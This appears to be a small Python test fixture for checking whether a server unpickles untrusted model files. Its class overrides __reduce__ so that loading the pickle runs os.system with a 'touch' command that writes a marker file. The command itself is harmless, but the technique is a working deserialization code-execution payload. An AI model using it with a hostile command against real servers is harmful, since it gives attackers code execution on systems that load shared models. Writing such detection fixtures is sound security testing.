"""A model whose unpickling writes a marker file: proof that a server loaded a pickle nobody vouched for."""

from __future__ import annotations

import os
from typing import Any


class Bomb:
    """Pickles fine; unpickling runs ``touch MARKER`` instead of rebuilding the object."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))

    def predict(self, data: Any) -> Any:
        return data
